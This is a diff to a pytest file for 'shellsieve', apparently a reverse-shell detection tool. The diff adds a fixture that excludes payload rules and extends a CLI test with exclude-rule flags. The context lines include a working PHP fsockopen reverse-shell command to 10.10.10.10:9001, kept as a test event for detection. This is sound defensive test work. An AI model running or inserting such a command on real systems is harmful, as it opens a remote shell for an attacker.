@@ -12,7 +12,7 @@ from typing import Any
 import msgspec
 import pytest
 
-from conftest import PHP_FSOCKOPEN, PYTHON_PTY, ROOT, rule_ids
+from conftest import PHP_FSOCKOPEN, PYTHON_PTY, ROOT, rule_ids, PATTERNS, PAYLOAD_RULES
 from shellsieve.cli import main
 from shellsieve.compile.ruleset import Ruleset
 from shellsieve.diagnostics import Diagnostic
@@ -27,6 +27,21 @@ from shellsieve.rules.exceptions import load_exceptions
 from shellsieve.settings import Settings
 
 CLI = str(Path(sys.executable).parent / "shellsieve")
+
+# `run` over the same rules as the fixture below
+_SEEDS_ONLY = [f"--exclude-rule={r}" for r in sorted(PAYLOAD_RULES)]
+
+
+@pytest.fixture(scope="module")
+def shipped() -> Ruleset:
+    """The shipped rules without issue 24's payload rules, which also alert on the PHP reverse shell
+    these tests use: one rule per event keeps the per-rule counts readable."""
+    from shellsieve.build import build
+    from shellsieve.model.selection import Selection
+
+    return build([PATTERNS], None, Selection("low", (), tuple(sorted(PAYLOAD_RULES))))[1]
+
+
 EXAMPLE = ROOT / "deploy" / "exceptions.example.yml"
 # the seed reverse shell of rule 100103 (PHP fsockopen), as an Elastic Defend process start
 PHP = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
@@ -279,7 +294,7 @@ class TestCli:
         path = self._file(tmp_path, _entry("- field: host.name\n  matches: WEB-01", rules=PHP_FSOCKOPEN))
         events = [_php(1), _php(2)]
         data = b"".join(msgspec.json.encode(e) + b"\n" for e in events)
-        res = subprocess.run([CLI, "run", "--stats-interval", "0", "--exceptions", path], input=data,
+        res = subprocess.run([CLI, "run", "--stats-interval", "0", "--exceptions", path, *_SEEDS_ONLY], input=data,
                              capture_output=True, timeout=60)
         assert res.returncode == 0, res.stderr.decode()
         lines = res.stdout.splitlines()
